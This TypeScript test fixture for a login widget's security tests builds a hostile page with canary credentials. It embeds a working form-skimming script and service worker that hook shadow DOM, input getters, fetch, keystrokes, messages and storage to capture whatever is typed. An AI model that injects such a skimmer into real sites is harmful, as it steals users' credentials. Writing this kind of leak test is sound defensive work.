import { startDemo } from '../../demo/demo.js';
import { startHostServer } from '../embedding/host-server.js';

/** What is typed and must not be found. */
export const canary = { email: 'canary-7391@example.jp', password: 'Canary_7391_pw' };

/** The channels in which the hostile script finds what is typed into the page itself. */
export const channels = [
  'define',
  'drag',
  'fetch',
  'focus',
  'getter',
  'input',
  'keys',
  'leaving',
  'mutation',
  'print',
  'shadow',
  'worker',
];

/** What the hostile script has collected, by channel. */
export type Stolen = Record<string, string[]>;

/** The body of a function that reads it once the page was left and loaded again. */
export const readStolen = `return JSON.parse(sessionStorage.getItem('__stolen'))`;

/** The channels in which the canary was found. */
export const channelsWithCanary = (stolen: Stolen): string[] =>
  Object.keys(stolen)
    .filter((channel) => stolen[channel]!.some((text) => Object.values(canary).some((typed) => text.includes(typed))))
    .sort();

/** A hostile page of a brand with a login, where the account service of a demo of its own allows `inline` or `frame`. */
export async function startHostilePage(
  presentation: 'inline' | 'frame',
): Promise<{ url: string; close(): Promise<void> }> {
  const hosts = await startHostServer();
  const url = hosts.origin('www.lexus');
  const listed = { MYLEXUS_INLINE_ORIGINS: '', MYLEXUS_FRAME_ORIGINS: '' };
  listed[presentation === 'inline' ? 'MYLEXUS_INLINE_ORIGINS' : 'MYLEXUS_FRAME_ORIGINS'] = url;
  const demo = await startDemo(0, () => Promise.resolve(listed));
  const { id } = demo.origins;
  hosts.page = {
    html: `<html lang="ja"><link rel="icon" href="data:," /><script>${hostileScript}</script>
      <script type="module" src="${id}/widgets/loader.js"></script>
      <mylexus-login><a href="${id}/login">fallback</a></mylexus-login></html>`,
    files: { '/worker.js': { body: hostileWorker, type: 'text/javascript' } },
  };
  return {
    url,
    async close() {
      await demo.close();
      hosts.close();
    },
  };
}

/**
 * A script that a stranger has brought into a page, for instance by a tag manager. It runs before everything else and
 * collects what it can reach, by channel. Text, since it runs in the page as it is.
 */
const hostileScript = `{
  const stolen = (window.__stolen = {});
  const keep = (channel, value) => (stolen[channel] ??= []).push(String(value));
  const roots = new Set([document]);

  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attachShadow.call(this, { ...init, mode: 'open' });
    roots.add(root);
    new MutationObserver(() => readInputs('mutation')).observe(root, { childList: true, subtree: true, attributes: true });
    return root;
  };
  const valueOf = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  const readInputs = (channel) => {
    for (const root of roots) {
      for (const input of root.querySelectorAll('input')) keep(channel, valueOf.get.call(input));
    }
  };
  setInterval(() => readInputs('shadow'), 50);
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    ...valueOf,
    get() {
      const value = valueOf.get.call(this);
      keep('getter', value);
      return value;
    },
  });

  const define = CustomElementRegistry.prototype.define;
  CustomElementRegistry.prototype.define = function (name, constructor, options) {
    const { connectedCallback } = constructor.prototype;
    constructor.prototype.connectedCallback = function () {
      connectedCallback?.call(this);
      setInterval(() => this.renderRoot?.querySelectorAll('input').forEach((input) => keep('define', valueOf.get.call(input))), 50);
    };
    define.call(this, name, constructor, options);
  };
  const { fetch } = window;
  window.fetch = function (input, init) {
    keep('fetch', init?.body);
    return fetch.call(this, input, init);
  };
  for (const [channel, types] of Object.entries({ keys: ['keydown', 'keypress'], input: ['input', 'beforeinput', 'change'], focus: ['focusin', 'focusout'] })) {
    for (const type of types) {
      window.addEventListener(type, (event) => {
        // Keys are put together to what was typed.
        if (channel === 'keys' && type === 'keydown') stolen.keys = [(stolen.keys?.[0] ?? '') + event.key.replace('Shift', '')];
        else keep(channel, valueOf.get.call(event.composedPath().find((each) => each instanceof HTMLInputElement) ?? document.createElement('input')));
      }, true);
    }
  }
  window.addEventListener('beforeprint', () => readInputs('print'));
  window.addEventListener('pagehide', () => { readInputs('leaving'); sessionStorage.setItem('__stolen', JSON.stringify(stolen)); }, true);
  window.addEventListener('dragstart', (event) => keep('drag', event.dataTransfer?.getData('text/plain')), true);

  for (const name of ['log', 'info', 'warn', 'error', 'debug']) {
    const original = console[name];
    console[name] = (...values) => { keep('console', values.join()); original.apply(console, values); };
  }
  const text = (value) => { try { return JSON.stringify(value); } catch { return String(value); } };
  window.addEventListener('message', ({ data }) => keep('messages', text(data)), true);
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...onmessage,
    set(listener) {
      onmessage.set.call(this, (event) => { keep('messages', text(event.data)); return listener.call(this, event); });
    },
  });
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (message, ...rest) {
    keep('messages', text(message));
    return post.call(this, message, ...rest);
  };
  const setItem = Storage.prototype.setItem;
  Storage.prototype.setItem = function (name, value) {
    if (name !== '__stolen') keep('storage', value);
    return setItem.call(this, name, value);
  };
  navigator.serviceWorker.addEventListener('message', ({ data }) => keep('worker', data));
  navigator.serviceWorker.register('/worker.js');
}`;

/** A service worker of the stranger's, which reads the requests of the page. */
const hostileWorker = `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    if (event.request.method !== 'POST') return;
    const copy = event.request.clone();
    event.waitUntil(copy.text().then(async (text) => {
      for (const client of await clients.matchAll()) client.postMessage(text);
    }));
  });
`;
